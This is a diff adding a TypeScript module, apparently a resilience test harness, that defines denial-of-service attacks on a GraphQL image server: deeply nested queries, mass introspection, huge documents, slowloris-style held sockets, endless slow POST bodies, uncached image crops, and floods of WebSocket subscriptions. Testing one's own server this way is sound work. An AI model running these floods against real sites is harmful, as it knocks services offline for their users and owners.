@@ -1,0 +1,97 @@
+import { connect } from "node:net";
+import type { Socket } from "node:net";
+import { setTimeout as wait } from "node:timers/promises";
+import { WebSocket } from "ws";
+import { send, sendOperation } from "./client.ts";
+
+/** A site, as an attacker knows it. */
+export type Target = {
+  url: string;
+  from: string;
+  /** A published work with several images. */
+  slug: string;
+  /** The path of an image's service. */
+  service: string;
+};
+
+let count = 0;
+
+/** Repeats a request in several loops at once. A refused one is repeated after a moment. */
+function repeat(loops: number, one: () => Promise<{ status: number }>): void {
+  const loop = async (): Promise<void> => {
+    const { status } = await one();
+    if (status !== 200) await wait(20);
+    return loop();
+  };
+  for (let index = 0; index < loops; index += 1) void loop();
+}
+
+/** Keeps a number of raw connections open. One that ends is replaced after a moment. */
+function holdOpen(connections: number, target: Target, begin: (socket: Socket) => void): void {
+  const { hostname, port } = new URL(target.url);
+  const open = () => {
+    const socket = connect({ host: hostname, port: Number(port), localAddress: target.from });
+    socket.on("error", () => undefined);
+    socket.on("close", () => setTimeout(open, 200));
+    socket.on("connect", () => begin(socket));
+  };
+  for (let index = 0; index < connections; index += 1) open();
+}
+
+const head = (method: string, path: string, rest = "") =>
+  `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${rest}\r\n`;
+
+const introspection = `query { ${Array.from({ length: 250 }, (_, index) => `a${index}: __schema { ...F }`).join(" ")} }
+  fragment F on __Schema { types { name fields { name args { name type { name } } type { name } } } }`;
+
+/** The ways in which one network does its worst, by name. Each goes on until its process ends. */
+export const attacks: Record<string, (target: Target) => void> = {
+  "nested lists": ({ slug, ...target }) => {
+    const nested = (levels: number): string =>
+      levels === 0 ? "id" : `images { work { ${nested(levels - 1)} } }`;
+    repeat(20, () => {
+      const query = `{ work(slug: ${JSON.stringify(slug)}) { ${nested(1 + (count++ % 5))} } }`;
+      return sendOperation(target, { query });
+    });
+  },
+  introspection: (target) => repeat(20, () => sendOperation(target, { query: introspection })),
+  "large documents": (target) =>
+    repeat(20, () =>
+      sendOperation(target, { query: `{ site { title } } # ${count++} ${"x".repeat(290_000)}` }),
+    ),
+  "cuts that nobody reads": (target) =>
+    holdOpen(60, target, (socket) => {
+      socket.pause();
+      socket.write(head("GET", `${target.service}/full/^${1000 + (count++ % 500)},/0/default.png`));
+    }),
+  "cuts on demand": (target) =>
+    repeat(212, () => {
+      const region = `${count % 97},${count % 89},${1200 + (count++ % 1000)},1200`;
+      return send({ ...target, path: `${target.service}/${region}/max/0/default.jpg` });
+    }),
+  "bodies that never end": (target) =>
+    holdOpen(1_500, target, (socket) => {
+      const length = "Content-Type: application/json\r\nContent-Length: 400000\r\n";
+      socket.write(head("POST", "/graphql", length) + "x".repeat(390_000));
+      const drip = setInterval(() => socket.write("x"), 5_000);
+      socket.on("close", () => clearInterval(drip));
+    }),
+  "distinct subscriptions": ({ url, from }) => {
+    const query = "subscription ($id: ID!) { notesChanged(imageId: $id) { __typename } }";
+    const open = () => {
+      const options = { localAddress: from };
+      const socket = new WebSocket(`${url}/graphql`, "graphql-transport-ws", options);
+      socket.on("error", () => undefined);
+      socket.on("close", () => setTimeout(open, 200));
+      socket.on("open", () => socket.send(JSON.stringify({ type: "connection_init" })));
+      socket.once("message", () => {
+        for (let index = 0; index < 20; index += 1) {
+          const id = Buffer.from(`Image:${count++}${"x".repeat(50_000)}`).toString("base64");
+          const payload = { query, variables: { id } };
+          socket.send(JSON.stringify({ id: `${index}`, type: "subscribe", payload }));
+        }
+      });
+    };
+    for (let index = 0; index < 150; index += 1) open();
+  },
+};
